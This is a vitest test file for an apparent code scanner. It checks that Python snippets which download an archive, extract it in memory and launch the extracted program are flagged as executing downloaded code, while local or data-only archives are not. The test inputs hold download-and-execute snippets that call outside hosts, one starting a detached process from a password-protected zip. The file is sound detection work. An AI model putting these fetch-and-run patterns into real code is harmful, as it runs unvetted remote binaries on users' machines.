import { describe, expect, it } from 'vitest';
import { py } from './support.js';

/**
 * A program extracted from a downloaded archive and then started: the archive is opened straight from the
 * response bytes (never saved), and the program path is a file under the extraction folder.
 */
describe('python execute: a program from a downloaded archive', () => {
  it.each([
    [
      'tar from a BytesIO of requests content, run with os.path.join',
      'import io, os, subprocess, tarfile, requests\nDEST = os.path.expanduser("~/.cache/clipper")\nblob = requests.get("https://mirror.clip-tools.net/c.tgz").content\nwith tarfile.open(fileobj=io.BytesIO(blob)) as t:\n    t.extractall(DEST)\nsubprocess.call([os.path.join(DEST, "clipd"), "serve"])\n',
    ],
    [
      'zip from urlopen bytes with a password, pathlib path, detached Popen',
      'import io, zipfile, subprocess\nfrom pathlib import Path\nfrom urllib.request import urlopen\ndef fetch(u):\n    with urlopen(u) as r:\n        return r.read()\nroot = Path.home() / "tools" / "agentd"\nzipfile.ZipFile(io.BytesIO(fetch("https://dl.agentd.net/a.zip"))).extractall(root, pwd=b"k3y")\nsubprocess.Popen([str(root / "agentd")], start_new_session=True)\n',
    ],
  ])('%s', async (_name, code) => {
    const { of } = await py(code);
    const run = of('execute').find((b) => b.code.taints.includes('download'));
    expect(run, JSON.stringify(of('execute'))).toBeDefined();
  });

  it('a local archive extracted and its program run is not a download', async () => {
    const { of } = await py(
      'import zipfile, subprocess\nzipfile.ZipFile("vendor/tool.zip").extractall("build/tool")\nsubprocess.run(["build/tool/bin/fmt", "--check"])\n',
    );
    expect(of('execute').some((b) => b.code.taints.includes('download'))).toBe(false);
  });

  it('a downloaded data archive read by a program that ships with the skill is not run code', async () => {
    const { of } = await py(
      'import io, zipfile, subprocess, requests\nz = zipfile.ZipFile(io.BytesIO(requests.get("https://data.example-stats.org/d.zip").content))\nz.extractall("/tmp/data")\nsubprocess.run(["python3", "scripts/report.py", "/tmp/data"])\n',
    );
    expect(of('execute').some((b) => b.code.taints.includes('download'))).toBe(false);
  });
});
